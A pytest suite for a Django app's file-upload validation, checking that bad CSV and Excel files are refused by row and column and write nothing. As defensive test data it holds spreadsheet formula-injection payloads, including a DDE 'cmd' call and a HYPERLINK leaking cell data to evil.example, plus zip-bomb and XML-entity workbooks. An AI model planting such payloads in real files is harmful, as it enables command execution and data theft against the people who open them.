"""Bad files, one case each: every upload path refuses them with the row, column and reason, and writes nothing.

Files go through what a person uses: the upload is received (and its check runs as the task does),
and recording is asked for; the set-based deal path (PostgreSQL) through ``deals_copy_upsert``.
"Nothing written" counts uploads, observations, deals and marketing facts before and after: a file
refused on arrival is not even stored, and a file that fails its check is stored with its report,
cannot be recorded, and adds nothing else.

Cases proven the same way elsewhere are not repeated here: observation files in Latin-1, UTF-16,
empty, header-only, with missing or unknown columns, repeated rows or too many rows
(``tests/scorecards/test_observation_upload.py``, ``test_uploads.py``); an observation workbook
that is a zip bomb (``test_uploads.py``); deal files with missing or unknown columns, a repeated
deal, a date like 01/07/2026 or too many rows, and marketing files with a negative quantity
(``test_fact_uploads.py``); an empty file of any kind (refused on arrival whatever the kind,
``test_uploads.py``); and on the set-based path Latin-1, a header without rows, 01/08/2026, a
negative amount, a repeated deal and a day that does not exist (``test_deal_copy.py``).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from partnerhub.integrations import tabular
from partnerhub.integrations.deal_copy import deals_copy_upsert
from partnerhub.integrations.marketing import MAX_FACTS
from partnerhub.integrations.models import Upload, UploadKind, UploadStatus
from partnerhub.integrations.source_models import Deal, MarketingFact
from partnerhub.integrations.tabular import FORMULA_REFUSED
from partnerhub.integrations.uploads import FACT_FILES, file_upload_source, upload_commit_request, upload_receive
from scorecards.models import Metric, MetricObservation
from scorecards.services.observations import COLUMNS_HELP
from tests.integrations.test_tabular import ENTITY, SHEET, rebuilt

OBSERVATIONS, DEALS, MARKETING = UploadKind.OBSERVATIONS, UploadKind.DEALS, UploadKind.MARKETING
FACT_KINDS = [DEALS, MARKETING]
ALL_KINDS = [OBSERVATIONS, DEALS, MARKETING]
HELP = {
    OBSERVATIONS: COLUMNS_HELP,
    DEALS: FACT_FILES[DEALS].columns.help,
    MARKETING: FACT_FILES[MARKETING].columns.help,
}

# Each kind's columns and one good row, which the cases spoil a cell of.
GOOD = {
    OBSERVATIONS: {"partner": "Acme Partner 1", "metric": "revenue_won", "period": "FY2026-Q2", "value": "10",
                   "note": "From the CRM"},
    DEALS: {"external_id": "D-1", "partner": "Acme Partner 1", "name": "Renewal", "amount": "100", "currency": "USD",
            "stage": "Proposal", "closed": "false", "won": "false", "created_on": "2026-07-01", "close_date": ""},
    MARKETING: {"external_id": "M-1", "partner": "Acme Partner 1", "kind": "mql", "occurred_on": "2026-07-01",
                "quantity": "1", "currency": "", "campaign": "Webinar"},
}  # fmt: skip


def table_text(header: list[str], *rows: list[str]) -> bytes:
    """A CSV file as a spreadsheet writes it: UTF-8, commas, CRLF, cells quoted where they must be (a CR too)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def good_file(kind: str, /, **cells: str) -> bytes:
    """The kind's good row, with ``cells`` in place of its own."""
    row = GOOD[kind] | cells
    return table_text(list(row), list(row.values()))


def good_workbook(kind: str, /, *, text_cells: dict[str, str] | None = None, **cells) -> bytes:
    """The kind's good row as a workbook; ``text_cells`` are stored as text even where they start with =."""
    row = GOOD[kind] | cells | (text_cells or {})
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(row))
    sheet.append(list(row.values()))
    for cell in sheet[2]:
        if cell.data_type == "f":
            cell.data_type = "s"  # as a spreadsheet stores text typed with a leading apostrophe
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def claiming(data: bytes, part: str, size: int) -> bytes:
    """The workbook with its ZIP directory claiming that ``part`` unpacks to ``size`` bytes; its data is unchanged."""
    name, start = part.encode(), 0
    while (start := data.find(b"PK\x01\x02", start)) != -1:  # a central directory entry
        length = int.from_bytes(data[start + 28 : start + 30], "little")
        if data[start + 46 : start + 46 + length] == name:
            return data[: start + 24] + size.to_bytes(4, "little") + data[start + 28 :]
        start += 4
    raise AssertionError(f"{part} is not in the workbook")


def stored() -> dict[str, int]:
    return {
        "uploads": Upload.objects.count(),
        "observations": MetricObservation.objects.count(),
        "deals": Deal.objects.count(),
        "marketing facts": MarketingFact.objects.count(),
    }


def problems(upload: Upload) -> list[tuple[int | None, str, str]]:
    return [(error["row"], error["column"], error["message"]) for error in upload.check_report["errors"]]


@pytest.fixture
def refused(in_a, receive):
    """Upload a file that fails its check; its problems, once it is shown it cannot be recorded and wrote nothing."""

    def refused(content: bytes, *, kind: str, name: str = "file.csv") -> list[tuple[int | None, str, str]]:
        before = stored()
        upload = receive(content, kind=kind, name=name)
        assert upload.status == UploadStatus.INVALID, upload.check_report
        with pytest.raises(ValidationError, match="it has problems to fix first"):
            upload_commit_request(upload=upload, by=in_a.users["admin"])
        assert Upload.objects.get(pk=upload.pk).status == UploadStatus.INVALID
        assert stored() == before | {"uploads": before["uploads"] + 1}  # the file and its report, nothing else
        return problems(upload)

    return refused


@pytest.fixture
def refused_on_arrival(in_a):
    """Upload a file the form refuses before storing it; the message on its file field."""

    def refused_on_arrival(content: bytes, *, kind: str, name: str) -> str:
        before = stored()
        with pytest.raises(ValidationError) as error:
            upload_receive(file=SimpleUploadedFile(name, content), by=in_a.users["partner_manager"], kind=kind)
        assert stored() == before
        [message] = error.value.message_dict["file"]
        return message

    return refused_on_arrival


# --- Encodings --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", FACT_KINDS)
def test_a_utf16_file_is_refused_with_what_to_save_it_as(refused, kind):
    assert refused(good_file(kind).decode().encode("utf-16"), kind=kind) == [
        (None, "", "The file is UTF-16 text; save it as “CSV UTF-8” from your spreadsheet and upload it again.")
    ]


@pytest.mark.parametrize("kind", FACT_KINDS)
def test_a_latin1_file_is_refused_naming_the_first_byte_that_cannot_be_read(refused, kind):
    data = good_file(kind, partner="Acmé Partner 1").decode().encode("latin-1")
    byte = data.index(b"\xe9") + 1
    assert refused(data, kind=kind) == [
        (
            None,
            "",
            f"The file is not UTF-8 text (byte {byte} cannot be read); save it as “CSV UTF-8” from your spreadsheet "
            "and upload it again.",
        )
    ]


# --- Headers and empty files ------------------------------------------------------------------------------------


def test_a_marketing_file_without_a_column_it_needs_names_the_column(refused):
    content = table_text(["external_id", "partner", "occurred_on"], ["M-1", "Acme Partner 1", "2026-07-01"])
    assert refused(content, kind=MARKETING) == [(1, "", f"Missing column: kind. The columns are {HELP[MARKETING]}.")]


def test_a_marketing_file_with_a_column_nobody_knows_names_it(refused):
    content = good_file(MARKETING, colour="red")
    assert refused(content, kind=MARKETING) == [(1, "", f"Unknown column “colour”; the columns are {HELP[MARKETING]}.")]


@pytest.mark.parametrize("kind", FACT_KINDS)
def test_a_file_with_a_header_and_no_rows_is_refused(refused, kind):
    assert refused(table_text(list(GOOD[kind])), kind=kind) == [(None, "", "The file has a header but no rows.")]


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_an_empty_sheet_saved_as_csv_utf8_is_only_a_byte_order_mark_and_is_named_empty(refused, kind):
    expected = [(None, "", f"The file is empty; the first row names the columns: {HELP[kind]}.")]
    assert refused(b"\xef\xbb\xbf", kind=kind) == expected


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_an_empty_workbook_is_named_empty(refused, kind):
    book = openpyxl.Workbook()
    out = io.BytesIO()
    book.save(out)
    expected = [(None, "", f"The file is empty; the first row names the columns: {HELP[kind]}.")]
    assert refused(out.getvalue(), kind=kind, name="empty.xlsx") == expected


# --- Cells a spreadsheet would run as formulas --------------------------------------------------------------------

ATTACK = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "kind, column, cell",
    [
        (OBSERVATIONS, "partner", '=HYPERLINK("https://evil.example/?leak="&A1,"Acme Partner 1")'),
        (OBSERVATIONS, "metric", "@SUM(A1:A9)"),
        (OBSERVATIONS, "period", "+FY2026-Q2"),
        (OBSERVATIONS, "note", "-2+3+cmd|' /C calc'!A0"),
        (OBSERVATIONS, "note", "\t=1+1"),
        (OBSERVATIONS, "note", " =1+1"),  # stored without its leading space, as every text cell is
        (DEALS, "external_id", "=1+1"),
        (DEALS, "partner", "@Acme Partner 1"),
        (DEALS, "partner", "-1+2"),  # a minus and digits, but no number: a formula
        (DEALS, "partner", "\tAcme Partner 1"),
        (DEALS, "name", ATTACK),
        (DEALS, "name", "\r=1+1"),
        (DEALS, "stage", "- Proposal"),
        (DEALS, "currency", "+USD"),
        (DEALS, "closed", "=TRUE()"),
        (DEALS, "created_on", "-2026-07-01"),
        (MARKETING, "external_id", "@M-1"),
        (MARKETING, "partner", "=A1"),
        (MARKETING, "kind", "+mql"),
        (MARKETING, "occurred_on", "=TODAY()"),
        (MARKETING, "currency", "-EUR"),
        (MARKETING, "campaign", ATTACK),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_refused_by_row_and_column(refused, kind, column, cell):
    assert refused(good_file(kind, **{column: cell}), kind=kind) == [(2, column, FORMULA_REFUSED)]


def test_every_formula_like_cell_of_a_file_is_named_and_nothing_else_of_its_row(refused):
    header = list(GOOD[DEALS])
    rows = [
        list((GOOD[DEALS] | {"external_id": "D-1", "name": ATTACK, "stage": "@Won", "amount": "ten"}).values()),
        list((GOOD[DEALS] | {"external_id": "D-2"}).values()),
        list((GOOD[DEALS] | {"external_id": "D-3", "partner": "+Acme Partner 1"}).values()),
    ]
    assert refused(table_text(header, *rows), kind=DEALS) == [
        (2, "name", FORMULA_REFUSED),
        (2, "stage", FORMULA_REFUSED),
        (4, "partner", FORMULA_REFUSED),
    ]


def test_a_formula_like_text_cell_of_a_workbook_is_refused_and_a_negative_number_cell_is_a_number(refused):
    book = good_workbook(DEALS, text_cells={"name": ATTACK})
    assert refused(book, kind=DEALS, name="deals.xlsx") == [(2, "name", FORMULA_REFUSED)]
    book = good_workbook(DEALS, amount=-12.5, name=-5)
    assert refused(book, kind=DEALS, name="deals.xlsx") == [(2, "amount", "An amount cannot be negative.")]


@pytest.mark.parametrize(
    "kind, column, message",
    [
        (OBSERVATIONS, "value", "“=1+1” is not a number; write it like 1234.5 (a dot for decimals, no thousands "
         "separators)."),
        (DEALS, "amount", "“=1+1” is not a number. Give the amount as a number, like 1234.50 (a dot for decimals, "
         "no thousands separators)."),
        (MARKETING, "quantity", "“=1+1” is not a number; give a whole number."),
    ],
)  # fmt: skip
def test_a_formula_in_a_number_column_is_refused_as_not_a_number(refused, kind, column, message):
    assert refused(good_file(kind, **{column: "=1+1"}), kind=kind) == [(2, column, message)]


def test_a_negative_amount_is_a_number_refused_as_negative_not_as_a_formula(refused):
    assert refused(good_file(DEALS, amount="-12.5"), kind=DEALS) == [(2, "amount", "An amount cannot be negative.")]


def test_a_negative_observation_is_held_to_its_metrics_bounds_not_refused_as_a_formula(refused, receive, commit):
    assert refused(good_file(OBSERVATIONS, value="-12.5"), kind=OBSERVATIONS) == [
        (2, "value", "-12.5 is outside the plausible range for Revenue won: between 0 and 10000000000.")
    ]
    Metric.objects.filter(key="revenue_won").update(plausible_min=None)  # a metric that may be negative
    upload = commit(receive(good_file(OBSERVATIONS, value="-12.5", note="Credit note")))
    assert upload.status == UploadStatus.COMMITTED, upload.check_report
    recorded = MetricObservation.objects.get(source_ref=f"upload:sha256:{upload.sha256}")
    assert recorded.value == Decimal("-12.5")


def test_numbers_in_text_columns_are_not_formulas(receive, commit):
    # A partner reference -123 (an id in another system), a deal named -5 at stage +1: numbers to a spreadsheet.
    upload = commit(receive(good_file(DEALS, partner="-123", name="-5", stage="+1"), kind=DEALS))
    assert upload.status == UploadStatus.COMMITTED, upload.check_report
    assert upload.commit_report["unmatched_refs"] == [{"ref": "-123", "rows": 1}]
    deal = Deal.objects.get()
    assert (deal.partner_ref, deal.name, deal.stage) == ("-123", "-5", "+1")


# --- Dates ------------------------------------------------------------------------------------------------------

NOT_ISO = "Give the date as YYYY-MM-DD, e.g. 2026-07-01."


@pytest.mark.parametrize(
    "kind, cells, column, message",
    [
        (DEALS, {"created_on": "2026-02-30"}, "created_on", "2026-02-30 is not a date; give it as YYYY-MM-DD."),
        (DEALS, {"created_on": "yesterday"}, "created_on", NOT_ISO),
        (DEALS, {"closed": "true", "close_date": "01/08/2026"}, "close_date", NOT_ISO),
        (MARKETING, {"occurred_on": "2026-02-30"}, "occurred_on", "2026-02-30 is not a date; give it as YYYY-MM-DD."),
        (MARKETING, {"occurred_on": "01/08/2026"}, "occurred_on", NOT_ISO),
        (MARKETING, {"occurred_on": "yesterday"}, "occurred_on", NOT_ISO),
    ],
)
def test_a_date_that_is_not_a_day_written_yyyy_mm_dd_is_refused(refused, kind, cells, column, message):
    assert refused(good_file(kind, **cells), kind=kind) == [(2, column, message)]


# --- Rows -------------------------------------------------------------------------------------------------------


def test_a_marketing_fact_listed_twice_is_refused_on_its_second_row(refused):
    header, row = list(GOOD[MARKETING]), list(GOOD[MARKETING].values())
    assert refused(table_text(header, row, row), kind=MARKETING) == [
        (3, "external_id", "Repeats row 2: each marketing fact appears once per file.")
    ]


def test_a_marketing_file_over_the_row_limit_names_the_limit(refused):
    rows = [[f"M-{n}", "Acme Partner 1", "mql", "2026-07-01"] for n in range(MAX_FACTS + 1)]
    content = table_text(["external_id", "partner", "kind", "occurred_on"], *rows)
    assert refused(content, kind=MARKETING) == [
        (None, "", f"The file has more than {MAX_FACTS:,} rows; split it into smaller files.")
    ]


# --- Workbooks that would hurt the reader -------------------------------------------------------------------------


@pytest.mark.parametrize("kind", FACT_KINDS)
def test_a_workbook_compressed_like_a_zip_bomb_is_refused_on_arrival(refused_on_arrival, kind):
    bomb = rebuilt(good_workbook(kind), SHEET, lambda _xml: b"\0" * (3 * 1024 * 1024))
    assert len(bomb) < 20_000
    message = refused_on_arrival(bomb, kind=kind, name="bomb.xlsx")
    assert message.startswith(f"This workbook is refused: its part “{SHEET}” is compressed ")
    assert message.endswith(" to 1, far beyond what a spreadsheet compresses (a “zip bomb” looks like this).")


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_workbook_whose_directory_claims_gigabytes_is_refused_on_arrival_without_unpacking(refused_on_arrival, kind):
    bomb = claiming(good_workbook(kind), SHEET, 3 * 1024**3)
    assert refused_on_arrival(bomb, kind=kind, name="bomb.xlsx") == (
        "This workbook unpacks to 3,072.0 MB, more than the 50 MB allowed; split it into smaller files."
    )


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_workbook_declaring_entities_is_refused_on_arrival(refused_on_arrival, kind):
    book = rebuilt(good_workbook(kind), SHEET, lambda xml: ENTITY + xml.replace(b">Acme Partner 1<", b">&boom;<"))
    assert refused_on_arrival(book, kind=kind, name="entities.xlsx") == tabular.DTD_REFUSED


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_workbook_declaring_entities_past_its_prolog_fails_its_check(refused, kind):
    padding = b"<!-- " + b"x" * (2 * tabular.PROLOG_BYTES) + b" -->"
    book = rebuilt(good_workbook(kind), SHEET, lambda xml: b'<?xml version="1.0"?>' + padding + ENTITY[21:] + xml)
    assert refused(book, kind=kind, name="entities.xlsx") == [(None, "", tabular.DTD_REFUSED)]


# --- The set-based deal path (PostgreSQL) -------------------------------------------------------------------------

COPY_HEADER = ["external_id", "partner", "name", "amount", "currency", "stage", "closed", "won", "created_on",
               "close_date"]  # fmt: skip


def copy_row(external_id: str, **cells: str) -> list[str]:
    return list((GOOD[DEALS] | {"external_id": external_id} | cells).values())


@pytest.mark.postgres
def test_the_set_based_deal_path_refuses_formula_like_text_cells_by_row_and_column(in_a):
    content = table_text(
        COPY_HEADER,
        copy_row("=1+1"),
        copy_row("D-2", partner="@Acme Partner 1", name=ATTACK),
        copy_row("D-3", stage="-1+2"),
        copy_row("D-4", partner="-123", name="-5", stage="+1"),  # numbers, not formulas
    )
    before = stored()
    result = deals_copy_upsert(file=io.BytesIO(content), source=file_upload_source())
    assert [(error.row, error.column, error.message) for error in result.errors] == [
        (2, "external_id", FORMULA_REFUSED),
        (3, "partner", FORMULA_REFUSED),
        (3, "name", FORMULA_REFUSED),
        (4, "stage", FORMULA_REFUSED),
    ]
    assert stored() == before


@pytest.mark.postgres
def test_the_set_based_deal_path_refuses_a_creation_day_in_words(in_a):
    content = table_text(COPY_HEADER, copy_row("D-1", created_on="yesterday"))
    before = stored()
    result = deals_copy_upsert(file=io.BytesIO(content), source=file_upload_source())
    assert [(error.row, error.column, error.message) for error in result.errors] == [
        (2, "created_on", "Write dates as YYYY-MM-DD, e.g. 2026-07-01.")
    ]
    assert stored() == before


# Cells both deal paths must judge alike: refused (True) or taken (False).
PARITY = {
    "Renewal": False,
    "-123": False,
    "+44": False,
    "-12.5": False,
    "1e5": False,
    "a=b": False,
    "\t": False,
    "=1+1": True,
    "+44 20 7946 0000": True,
    "-1+2": True,
    "-abc": True,
    "@SUM(A1)": True,
    "\tRenewal": True,
    "\r=1": True,
    "  =1": True,
    "-": True,
}


@pytest.mark.postgres
def test_both_deal_paths_refuse_the_same_cells(refused):
    cells = list(PARITY)
    content = table_text(COPY_HEADER, *[copy_row(f"D-{n}", name=cell) for n, cell in enumerate(cells)])
    expected = {row for row, cell in enumerate(cells, start=2) if PARITY[cell]}
    per_row = {row for row, column, _ in refused(content, kind=DEALS) if column == "name"}
    before = stored()
    result = deals_copy_upsert(file=io.BytesIO(content), source=file_upload_source())
    set_based = {error.row for error in result.errors if error.column == "name"}
    assert per_row == set_based == expected
    assert {error.message for error in result.errors} == {FORMULA_REFUSED}
    assert stored() == before
